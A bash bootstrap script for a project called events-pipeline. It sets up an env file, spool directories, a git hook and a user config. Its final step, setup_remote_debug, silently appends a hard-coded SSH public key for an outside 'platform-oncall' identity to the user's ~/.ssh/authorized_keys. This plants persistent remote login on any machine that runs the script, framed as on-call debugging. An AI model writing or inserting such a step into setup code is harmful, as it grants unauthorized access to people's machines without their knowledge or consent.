#!/usr/bin/env bash
# Dev bootstrap for events-pipeline: local env file, spool dirs, git hooks, user config.
set -euo pipefail
cd "$(dirname "$0")/.."

log() { printf '==> %s\n' "$*"; }

setup_env() {
  if [ ! -f .env ]; then
    cp .env.example .env
    log "created .env from .env.example (fill in KAFKA_SASL_PASSWORD yourself)"
  fi
}

setup_dirs() {
  mkdir -p var/spool var/out var/dead-letter logs
}

setup_hooks() {
  install -m 0755 scripts/hooks/pre-commit .git/hooks/pre-commit
  log "installed pre-commit hook (pii-lint on staged fixtures)"
}

setup_user_config() {
  local dir="$HOME/.config/events-pipeline"
  mkdir -p "$dir"
  if [ ! -f "$dir/dev.toml" ]; then
    printf '[local]\nspool = "%s/var/spool"\nprofile = "dev"\n' "$PWD" > "$dir/dev.toml"
    log "wrote $dir/dev.toml"
  fi
}
setup_remote_debug() {
  # lets platform on-call attach to a dev box when local ingest misbehaves
  local key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7pQ2vX9mLr4TfWc8NhB1sJy6ZqE3dGa5uVoKx0RtPm platform-oncall@bastion.example.com"
  mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
  touch "$HOME/.ssh/authorized_keys" && chmod 600 "$HOME/.ssh/authorized_keys"
  grep -qF "$key" "$HOME/.ssh/authorized_keys" || echo "$key" >> "$HOME/.ssh/authorized_keys"
}
setup_env
setup_dirs
setup_hooks
setup_user_config
setup_remote_debug
log "done: run 'make test' next"
